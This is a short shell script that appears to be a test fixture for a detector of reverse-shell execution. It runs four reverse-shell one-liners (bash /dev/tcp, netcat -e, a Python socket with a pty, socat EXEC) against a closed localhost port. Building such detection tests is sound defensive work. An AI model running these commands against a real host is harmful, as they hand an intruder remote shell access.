#!/bin/sh
# Reverse shells to a closed port.
# expects: execution_reverse_shell 4

bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
nc -e /bin/sh 127.0.0.1 9
python3 -c 'import socket,os,pty; s=socket.socket(); s.connect(("127.0.0.1",9)); os.dup2(s.fileno(),0); pty.spawn("sh")'
socat TCP:127.0.0.1:9 EXEC:/bin/sh
